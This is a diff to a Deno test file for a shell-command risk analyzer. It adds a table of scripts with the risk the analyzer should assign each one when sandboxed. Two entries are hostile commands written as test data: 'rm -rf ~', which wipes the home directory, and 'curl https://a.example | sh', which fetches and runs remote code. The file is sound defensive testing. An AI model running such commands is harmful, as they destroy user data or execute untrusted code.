@@ -43,16 +43,29 @@ Deno.test("what is closed keeps the risk that it has where it is not", () => {
   ]);
 });
 
-Deno.test("beside a part that names a power, what nobody knows is as risky as without a sandbox", () => {
-  const { parts } = analyzeCommand("git pull; python3 -c 'import os'; ls", {
-    pathFacts,
-    sandboxed: true,
-  });
-  assert.deepEqual(parts.map((part) => [part.risk, part.tentative]), [
-    ["sensitive", undefined],
-    ["extreme", true],
-    ["safe", undefined],
-  ]);
+/** For each script the risks of its parts in the sandbox, `closed` for what is safe only because it runs closed. */
+const BESIDE: readonly (readonly [script: string, risk: string, parts: readonly string[]])[] = [
+  ["git pull; python3 -c 'import os'; ls", "sensitive", ["sensitive", "closed", "safe"]],
+  ["cd src && npm test && git add a", "sensitive", ["safe", "closed", "sensitive"]],
+  ["npm test | git add a", "sensitive", ["closed", "sensitive"]],
+  ["(npm test; ls) && git add a", "sensitive", ["closed", "safe", "sensitive"]],
+  ["npm test; rm -rf ~", "extreme", ["closed", "extreme"]],
+  // One sandbox for both.
+  ["npm test > log; git add a", "sensitive", ["sensitive", "sensitive", "sensitive"]],
+  ["f() { git add a; }; npm test; f", "sensitive", ["sensitive", "sensitive", "safe"]],
+  ["bash -c 'npm test; git add a'", "sensitive", ["sensitive", "sensitive", "sensitive"]],
+  // Not cut, as elsewhere is another place in a sandbox.
+  ["cd /elsewhere; npm test; git add a", "sensitive", ["sensitive", "sensitive", "sensitive"]],
+  // The code is what the other part sent for.
+  ["curl https://a.example | sh", "extreme", ["sensitive", "extreme"]],
+];
+
+Deno.test("beside a part that names a power, what nobody knows runs closed if it has its own sandbox", () => {
+  for (const [script, whole, expected] of BESIDE) {
+    const { risk, parts } = analyzeCommand(script, { pathFacts, sandboxed: true });
+    const risks = parts.map((part) => part.openRisk === undefined ? part.risk : "closed");
+    assert.deepEqual([risk, risks], [whole, expected], script);
+  }
 });
 
 Deno.test("with the narrower habit only what is known to read is safe", () => {
